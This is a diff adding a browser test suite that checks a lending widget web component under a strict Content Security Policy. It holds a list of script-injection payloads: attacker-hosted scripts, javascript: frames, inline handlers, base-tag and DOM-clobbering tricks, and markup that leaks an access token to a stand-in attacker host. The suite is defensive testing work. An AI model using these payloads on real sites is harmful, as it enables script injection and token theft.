@@ -1,0 +1,232 @@
+// <lending-widget> on a page under the strictest policy, and what markup alone can make it do.
+import assert from 'node:assert/strict';
+import { after, before, describe, it } from 'node:test';
+import { ensureBuilt } from '../support/dist.mjs';
+import { launch } from './browser.mjs';
+import { handOff, script, send, startPartner, startVendor } from './vendor/servers.mjs';
+
+const NONCE = 'cmFuZG9tIGVub3VnaA';
+const ELEMENT = '<lending-widget></lending-widget>';
+const EMBED_CALL = `VendorFunding.init({ token: '{access_token}', container: document.getElementById('{container_id}') });`;
+/** What an attacker's script does, wherever it gets to run. */
+const ATTACK = 'globalThis.attacked = true;';
+
+const nonceOnly = (vendor) =>
+  [
+    "default-src 'none'",
+    `script-src 'nonce-${NONCE}' 'strict-dynamic'`,
+    "style-src 'self'",
+    `connect-src 'self' ${vendor}`,
+    "img-src 'self' data:",
+    "frame-src 'self'",
+    "base-uri 'none'",
+    "form-action 'self'",
+  ].join('; ');
+const [STRICT, NO_TRUSTED_TYPES, NONE] = ['the strict policy', 'the policy without Trusted Types', 'no policy'];
+const POLICIES = {
+  [STRICT]: (vendor) =>
+    `${nonceOnly(vendor)}; require-trusted-types-for 'script'; trusted-types lit-html lending-elements`,
+  [NO_TRUSTED_TYPES]: nonceOnly,
+  [NONE]: () => undefined,
+};
+
+describe('<lending-widget> under a strict policy', { timeout: 120_000 }, () => {
+  let browser;
+  let partner;
+  let vendor;
+  let attacker;
+
+  before(async () => {
+    await ensureBuilt();
+    [partner, vendor, attacker] = await Promise.all([startPartner(), startVendor(), startVendor()]);
+    // It asks its own backend for the offers, as a widget does.
+    const source = `globalThis.VendorFunding = { async init({ token, container }) {
+      const answer = await fetch('${vendor.origin}/offers', { headers: { authorization: token } });
+      const offers = document.createElement('p');
+      offers.className = 'offers';
+      offers.textContent = await answer.text() + ' for ' + token;
+      container.append(offers);
+    } };`;
+    const cors = { 'access-control-allow-origin': '*', 'access-control-allow-headers': 'authorization' };
+    vendor.on('/widget.js', (response) => send(response, source));
+    vendor.on('/offers', (response) => send(response, 'Three offers', { 'content-type': 'text/plain', ...cors }));
+    vendor.on('/plain.js', (response) => send(response, script()));
+    attacker.on('/attack.js', (response) => send(response, ATTACK));
+    browser = await launch();
+  });
+  after(async () => {
+    await browser?.close();
+    for (const server of [partner, vendor, attacker]) server?.close();
+  });
+
+  const settings = () => ({ script_url: `${vendor.origin}/widget.js`, hand_off: handOff() });
+  const embed = () => `<div><script src="${vendor.origin}/widget.js"></script><script>${EMBED_CALL}</script></div>`;
+
+  /** What became of the widgets on a page: what they show, what they told, what the policy and the console say. */
+  async function open(body, widgets, under = STRICT) {
+    const page = await browser.newPage();
+    const problems = [];
+    page.on('pageerror', (error) => problems.push(String(error)));
+    page.on('console', (message) => message.type() === 'error' && problems.push(message.text()));
+    try {
+      const strict = { csp: POLICIES[under](vendor.origin), nonce: NONCE };
+      await page.goto(partner.show({ body, widgets, ...strict }), { waitUntil: 'networkidle0' });
+      const shown = await page.evaluate(async (count) => {
+        const { notes } = globalThis.partner;
+        const settled = () => notes.events.filter(({ type }) => /ready|error/.test(type));
+        const end = performance.now() + 8000;
+        while (settled().length < count && performance.now() < end) {
+          await new Promise((resolve) => setTimeout(resolve, 20));
+        }
+        return {
+          told: settled().map(({ code = 'ready' }) => code),
+          texts: [...document.querySelectorAll('.offers')].map(({ textContent }) => textContent),
+          violations: notes.violations,
+          attacked: Boolean(globalThis.attacked),
+        };
+      }, widgets.length);
+      return { ...shown, problems };
+    } finally {
+      await page.close();
+    }
+  }
+
+  it('shows the widget from a script and a hand-off, from embed code and from the backend’s settings, with 0 violations', async () => {
+    const widgets = [
+      { token: 'token-1', widget: settings() },
+      { token: 'token-2', widget: { embed_code: embed() } },
+      { token: 'token-3', widget: settings(), isFromBackend: true },
+    ];
+    const { told, texts, violations, problems } = await open(ELEMENT.repeat(3), widgets);
+    assert.deepEqual([violations, problems], [[], []]);
+    assert.deepEqual(told, ['ready', 'ready', 'ready']);
+    assert.deepEqual(
+      texts,
+      [1, 2, 3].map((at) => `Three offers for token-${at}`),
+    );
+  });
+
+  it('sees a violation where there is one', async () => {
+    const embed_code = `${embed()}<img src="${attacker.origin}/x.png">`;
+    const { violations } = await open(ELEMENT, [{ widget: { embed_code } }]);
+    assert.deepEqual(
+      violations.map(({ effectiveDirective }) => effectiveDirective),
+      ['img-src'],
+    );
+  });
+
+  /**
+   * Markup that somebody smuggles into a page whose backend configures the vendor's script. It gets the page's own
+   * settings, as an injected element would. Where a page without a policy would run it by itself, it is not `anywhere`.
+   */
+  const inside = (markup) => `<lending-widget><template>${markup}</template></lending-widget>`;
+  const attackUrl = () => `${attacker.origin}/attack.js`;
+  const GADGETS = {
+    'an external script of an origin that is not listed': {
+      markup: () => inside(`<script src="${attackUrl()}"></script>`),
+      told: 'script-not-allowed',
+      anywhere: true,
+    },
+    'a module of an origin that is not listed': {
+      markup: () => inside(`<script type="module" src="${attackUrl()}"></script>`),
+      told: 'script-not-allowed',
+      anywhere: true,
+    },
+    'an external script with a credential that looks like a listed origin': {
+      markup: () => inside(`<script src="${attackUrl().replace('http://', `${vendor.origin}@`)}"></script>`),
+      told: 'script-not-allowed',
+      anywhere: true,
+    },
+    'a data: script': { markup: () => inside(`<script src="data:,${ATTACK}"></script>`), told: 'script-not-allowed' },
+    'a script of SVG': {
+      markup: () => inside(`<svg><script href="${attackUrl()}" xlink:href="${attackUrl()}"></script></svg>`),
+      anywhere: true,
+    },
+    'an inline script without the nonce': { markup: () => inside(`<script>${ATTACK}</script>`) },
+    'an inline script with a guessed nonce': { markup: () => inside(`<script nonce="x">${ATTACK}</script>`) },
+    'an inline module': { markup: () => inside(`<script type="module">${ATTACK}</script>`) },
+    'an inline handler': { markup: () => inside(`<img src="data:," onerror="${ATTACK} '{access_token}'">`) },
+    'a frame with a document': {
+      markup: () => inside(`<iframe srcdoc="<script>parent.${ATTACK}</script>{access_token}"></iframe>`),
+    },
+    'a javascript: frame': { markup: () => inside(`<iframe src="javascript:parent.${ATTACK}"></iframe>`) },
+    'an endpoint of another origin': {
+      markup: () => `<lending-widget endpoint="${attacker.origin}/api"></lending-widget>`,
+      hasNoSettings: true,
+      told: 'config-invalid',
+      anywhere: true,
+    },
+    'an endpoint that is code': {
+      markup: () => `<lending-widget endpoint="javascript:${ATTACK}"></lending-widget>`,
+      hasNoSettings: true,
+      told: 'config-invalid',
+      anywhere: true,
+    },
+    'attributes that look like settings': {
+      markup: () => {
+        const url = attackUrl();
+        const json = JSON.stringify({ script_url: url, embed_code: `<script src=${url}></script>` });
+        return `<lending-widget widget='${json}' script-url="${url}" script_url="${url}" embed-code="<script src='${url}'></script>"
+          hand-off='{"iframe":{"src":"${url}","title":"x"}}' adapter="x" get-token="x" access-token="stolen"></lending-widget>`;
+      },
+      told: 'ready',
+      anywhere: true,
+    },
+    'markup in the element, and in its error slot': {
+      markup: () => `<lending-widget>{access_token}<p slot="error">{access_token}</p></lending-widget>`,
+      told: 'ready',
+      anywhere: true,
+    },
+    'a base, and an address of the settings that is relative': {
+      markup: () => `<base href="${attacker.origin}/">${ELEMENT}`,
+      widget: { script_url: '/attack.js', hand_off: handOff() },
+      told: 'script-failed',
+      anywhere: true,
+    },
+    'a name that the library may read': {
+      markup:
+        () => `<a id="trustedTypes"></a><a id="lendingElements"></a><form id="VendorFunding"><input name="init"></form>
+        <img name="baseURI">${ELEMENT}`,
+      told: 'ready',
+      anywhere: true,
+    },
+  };
+
+  for (const [name, gadget] of Object.entries(GADGETS)) {
+    for (const under of [STRICT, NO_TRUSTED_TYPES, ...(gadget.anywhere ? [NONE] : [])]) {
+      it(`runs nothing of ${name}, under ${under}`, async () => {
+        const widgets = gadget.hasNoSettings ? [null] : [{ widget: gadget.widget ?? settings(), isFromBackend: true }];
+        const before = attacker.asked('/');
+        const { attacked, told, texts } = await open(gadget.markup(), widgets, under);
+        assert.equal(attacked, false);
+        assert.equal(attacker.asked('/'), before);
+        assert.equal(told.length, 1);
+        if (gadget.told) assert.deepEqual(told, [gadget.told]);
+        if (gadget.told === 'ready') assert.deepEqual(texts, ['Three offers for token-1']);
+      });
+    }
+  }
+
+  it('notices an attack that gets through', async () => {
+    const widget = { ...settings(), origins: [attacker.origin] };
+    const before = attacker.asked('/attack.js');
+    const { attacked } = await open(inside(`<script src="${attackUrl()}"></script>`), [
+      { widget, isFromBackend: true },
+    ]);
+    assert.equal(attacked, true);
+    assert.equal(attacker.asked('/attack.js'), before + 1);
+  });
+
+  it('sends no token to an origin that markup names', async () => {
+    const leak = (address) => `<img src="${address}"><meta http-equiv="refresh" content="0;url=${address}">`;
+    const sent = [];
+    for (const under of [STRICT, NONE]) {
+      const before = attacker.asked('/leak?token');
+      const markup = inside(leak(`${attacker.origin}/leak?{access_token}`));
+      // The page may be led away meanwhile.
+      await open(markup, [{ widget: settings(), isFromBackend: true }], under).catch(() => undefined);
+      sent.push([under, attacker.asked('/leak?token') - before]);
+    }
+    assert.deepEqual(Object.fromEntries(sent), { [STRICT]: 0, [NONE]: 0 });
+  });
+});
